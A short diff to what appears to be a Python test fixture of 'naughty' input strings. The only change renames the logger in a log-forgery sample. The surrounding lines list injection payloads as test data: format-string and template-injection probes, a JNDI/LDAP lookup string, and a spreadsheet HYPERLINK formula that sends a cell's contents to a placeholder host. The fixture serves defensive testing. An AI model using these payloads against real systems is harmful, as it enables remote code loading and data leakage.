@@ -55,7 +55,7 @@ NAUGHTY: Final = {
     "percent format": "%s %d %n %(name)s %99999999d %%",
     "brace format": "{} {0} {name!r} {self.__class__.__mro__} {0:>99999}",
     "template": "{{ 7*7 }} {% for a in b %} {# words #} ${7*7} #{7*7} <%= 7*7 %> {{r words}} {_{ }_}",
-    "log forgery": "words\n2026-11-23T10:00:00Z ERROR bot.turns turn outcome=done",
+    "log forgery": "words\n2026-11-23T10:00:00Z ERROR bot.telegram.turns turn outcome=done",
     "lookup": "${jndi:ldap://example.org/a}",
     "formula": "=1+1",
     "formula with a link": '=HYPERLINK("https://example.org?"&A1,"press")',
